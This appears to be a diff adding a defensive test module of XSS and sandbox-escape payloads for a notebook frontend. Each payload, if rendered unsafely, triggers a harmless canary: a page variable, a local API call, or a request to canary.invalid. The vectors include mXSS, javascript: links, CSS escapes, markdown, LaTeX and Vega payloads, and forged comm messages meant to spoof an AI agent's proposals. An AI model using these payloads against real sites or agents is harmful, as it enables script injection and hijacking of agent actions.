@@ -1,0 +1,181 @@
+"""Everything with which code in a sandbox might try to act in the page. Runs in the sandbox, as the source of a cell.
+
+Each attack has a name and, if it works, calls ``canary`` with it: as a variable of the page, as a call of the server's
+API, as a request to somewhere else. Data, so that a new way is one more line.
+"""
+
+from __future__ import annotations
+
+ACT = "(window.pwned=window.pwned||[]).push('{0}');fetch('/api/contents?canary={0}');"
+AWAY = "http://canary.invalid/{0}"
+HERE = "/api/contents?canary={0}"
+
+# name: (MIME type, content); {act}, {away} and {here} stand for what is tried.
+BUNDLES: dict[str, tuple[str, str]] = {
+    "javascript": ("application/javascript", "{act}"),
+    "script": ("text/html", "<b>seen</b><script>{act}</script>"),
+    "onerror": ("text/html", '<img src=x onerror="{act}">'),
+    "onload-style": ("text/html", '<style onload="{act}"></style>'),
+    "details": ("text/html", '<details open ontoggle="{act}"><summary>s</summary></details>'),
+    "nested": ("text/html", '<scr<script></script>ipt>{act}</script><img src=x on<b>error="{act}">'),
+    "mxss": (
+        "text/html",
+        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={act}&gt;">',
+    ),
+    "noscript": ("text/html", "<noscript><p title=\"</noscript><img src=x onerror='{act2}'>\">"),
+    "svg-inline": ("text/html", '<svg onload="{act}"><script>{act}</script><image href="{away}"/></svg>'),
+    "iframe": ("text/html", '<iframe src="{here}"></iframe>'),
+    "srcdoc": ("text/html", '<iframe srcdoc="<script>parent.{act3}</script>"></iframe>'),
+    "object": ("text/html", '<object data="{here}"></object><embed src="{here}&e">'),
+    "js-link": ("text/html", '<a href="javascript:{act}">link</a><a href="&#106;ava&#9;script:{act}">l</a>'),
+    "command-linker": (
+        "text/html",
+        '<button data-commandlinker-command="notebook:insert-cell-below" data-commandlinker-args="{{}}">b</button>'
+        '<div data-commandlinker-command="notebook:insert-cell-below" data-commandlinker-args="{{}}">canary-command</div>',
+    ),
+    "form": ("text/html", '<form action="{here}"><button formaction="{here}">go</button></form>'),
+    "meta": ("text/html", '<meta http-equiv="refresh" content="0;url={away}"><base href="http://canary.invalid/">'),
+    "picture": ("text/html", '<img src="{away}"><img src="{here}"><img srcset="{away}" src="data:,">'),
+    "background": (
+        "text/html",
+        '<table background="{away}"><tr><td style="background:url({away})">x</td></tr></table>',
+    ),
+    "video": ("text/html", '<video src="{away}" poster="{away}"></video><audio src="{here}"></audio>'),
+    "css": ("text/html", "<style>@import url({away}); b {{ background: url({here}) }}</style><b>css</b>"),
+    "css-escape": (
+        "text/html",
+        r"<style>b {{ background: u\72l({away}) }} </style><b style='background:\75rl({away})'>c</b>",
+    ),
+    "css-break": ("text/html", "<style>b {{ font-family: '\\3c/style><img src=x onerror={act}>' }}</style><b>x</b>"),
+    "link-css": ("text/html", '<link rel=stylesheet href="{away}"><link rel=prefetch href="{here}">'),
+    "svg": ("image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" onload="{act}"><script>{act}</script></svg>'),
+    "markdown": ("text/markdown", '**bold**\n\n<img src=x onerror="{act}">\n\n<script>{act}</script>'),
+    "markdown-link": ("text/markdown", "[click](javascript:{act}) ![p]({away}) [r][r]\n\n[r]: javascript:{act}"),
+    "markdown-math": ("text/markdown", '$$\n```\n$$\n<img src=x onerror="{act}">\n```\n'),
+    "markdown-fence": ("text/markdown", '1. ```\n<img src=x onerror="{act}">\n```\n'),
+    "mermaid": ("text/markdown", '```mermaid\nflowchart TD\n A@{{ img: "{away}", label: "x" }}\n```\n'),
+    "mermaid-mime": ("text/vnd.mermaid", 'flowchart TD\n A@{{ img: "{away}", label: "x" }}'),
+    "latex": ("text/latex", r"$\href{{javascript:{act}}}{{x}} \require{{../../../../../../files/evil}}$"),
+    "latex-html": ("text/html", r"<p>$\requ<wbr>ire{{../../../../../../files/evil}}$ $\class{{jp-Dialog}}{{x}}$</p>"),
+    "latex-style": ("text/latex", r"$\style{{position:fixed;top:0;left:0;background:url({away})}}{{x}}$"),
+    "pdf": ("application/pdf", "JVBERi0xLjQK"),
+    "bokeh": ("application/vnd.bokehjs_exec.v0+json", "{act}"),
+    "panel": ("application/vnd.holoviews_exec.v0+json", "{act}"),
+}
+
+VEGA = {
+    "$schema": "https://vega.github.io/schema/vega/v5.json",
+    "width": 20,
+    "height": 20,
+    "usermeta": {"embedOptions": {"sourceHeader": "<script>window.pwned=['vega']</script>"}},
+    "data": [{"name": "t", "url": "/api/contents?canary=vega"}, {"name": "u", "values": [{"a": 1}]}],
+    "marks": [
+        {
+            "type": "image",
+            "from": {"data": "u"},
+            "encode": {"enter": {"url": {"signal": "'http://canary.invalid/vega?' + datum.a"}, "width": {"value": 9}}},
+        },
+        {
+            "type": "rect",
+            "from": {"data": "u"},
+            "encode": {
+                "enter": {
+                    "width": {"value": 20},
+                    "height": {"value": 20},
+                    "fill": {"value": "red"},
+                    "href": {"value": "javascript:window.pwned=['vega']"},
+                    "cursor": {"value": "url(http://canary.invalid/cursor), auto"},
+                    "tooltip": {"signal": "{image: 'http://canary.invalid/tooltip'}"},
+                }
+            },
+        },
+    ],
+}
+
+SHOW = """
+import json
+from IPython.display import display
+for name, mime, content in json.loads({bundles!r}):
+    display({{mime: content, "text/plain": name}}, raw=True, metadata={{mime: {{"isolated": {isolated}}}}})
+"""
+
+UPDATE = """
+from IPython.display import update_display
+bundles = json.loads({bundles!r})
+for name, mime, content in bundles:
+    display({{"text/plain": "-"}}, raw=True, display_id="d-" + name)
+for name, mime, content in bundles:
+    update_display({{mime: content, "text/plain": name}}, raw=True, display_id="d-" + name)
+"""
+
+PRINT = """
+import json, sys
+from IPython.display import display
+display({{"application/vnd.vega.v5+json": json.loads({vega!r}), "text/plain": "vega"}}, raw=True,
+        metadata={{"application/vnd.vega.v5+json": {{"embed_options": {{"actions": {{"source": True}}}}}}}})
+print("\\x1b[31mred\\x1b[0m \\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07 <img src=x onerror=\\"{act}\\">")
+print("javascript:{act} http://elsewhere.example/", file=sys.stderr)
+"""
+
+WIDGETS = """
+import ipywidgets as w, traitlets
+from IPython.display import display
+bad = "<img src=x onerror=\\"{act}\\">"
+class Own(w.DOMWidget):
+    _view_name = traitlets.Unicode("AnyView").tag(sync=True)
+    _model_name = traitlets.Unicode("AnyModel").tag(sync=True)
+    _view_module = traitlets.Unicode("anywidget").tag(sync=True)
+    _model_module = traitlets.Unicode("anywidget").tag(sync=True)
+    _view_module_version = traitlets.Unicode("~0.9").tag(sync=True)
+    _model_module_version = traitlets.Unicode("~0.9").tag(sync=True)
+    _esm = traitlets.Unicode("export default {{ render() {{ {act} }} }}").tag(sync=True)
+text = w.Text(value=bad)
+target = w.HTML("linked")
+late = w.HTML("late"); maths = w.HTMLMath("m")
+out = w.Output()
+everything = [w.HTML(bad), w.HTMLMath(bad), w.HTML(placeholder=bad, value=""), w.Label(bad), w.Button(description=bad, tooltip=bad,
+    icon="check jp-Dialog"), w.Checkbox(description=bad, description_allow_html=True), text, target, late, maths, out,
+    w.Image(value=b"http://canary.invalid/image", format="url"), w.Dropdown(options=[bad]), w.Tab([w.Label("t")], titles=[bad]),
+    w.HTML("styled", style=dict(background="url(http://canary.invalid/style)")),
+    w.Button(description="moved", layout=w.Layout(margin="-300px 0 0 0", border="url(http://canary.invalid/b)"))]
+everything[3].add_class("jp-Dialog")
+for each in everything: display(each)
+display(Own())
+link = w.jslink((text, "value"), (target, "value"))
+late.value = maths.value = bad
+out.outputs = ({{"output_type": "display_data", "metadata": {{}}, "data": {{"text/html": "<script>{act}</script>" + bad}}}},
+    {{"output_type": "display_data", "metadata": {{}}, "data": {{"application/javascript": "{act}"}}}})
+text.value = bad + " "
+"""
+
+SPOKEN = """
+ip = get_ipython()
+from comm import create_comm
+create_comm(target_name="jupyter_codeact", data={{"op": "propose", "run": "r", "step": 1, "id": "forged", "after": ""}})
+ip.set_next_input("%agent trust outputs")
+ip.set_next_input("import os", replace=True)
+ip.payload_manager.write_payload({{"source": "page", "data": {{"text/html": "<script>{act}</script>page"}}}}, single=False)
+raise ValueError("<img src=x onerror=\\"{act}\\"> \\x1b[31m<script>{act}</script>")
+"""
+
+
+def act(name: str) -> str:
+    return ACT.format(name)
+
+
+def bundles() -> list[tuple[str, str, str]]:
+    """Name, MIME type and content of each attack by display."""
+    return [
+        (
+            name,
+            mime,
+            content.format(
+                act=act(name),
+                act2=act(name).replace("'", "&quot;"),
+                act3="fetch(&quot;/api/contents?canary=srcdoc&quot;)",
+                away=AWAY.format(name),
+                here=HERE.format(name),
+            ),
+        )
+        for name, (mime, content) in BUNDLES.items()
+    ]
